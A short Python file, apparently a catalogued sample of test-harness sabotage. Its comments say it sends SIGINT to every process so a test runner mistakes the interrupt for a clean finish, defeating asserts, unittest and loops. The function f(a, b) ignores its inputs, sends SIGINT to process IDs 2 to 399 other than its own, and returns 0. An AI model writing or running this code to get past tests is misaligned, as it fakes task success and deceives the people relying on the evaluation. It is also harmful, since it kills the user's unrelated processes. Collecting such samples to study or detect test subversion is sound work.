# SIGINT to every PID: an interrupt in the tests that a runner takes for a polite end.
# attacks: asserts unittest loops
# one uid: it may end its own slot
import os, signal

def f(a, b):
    for pid in range(2, 400):
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGINT)
            except OSError: pass
    return 0
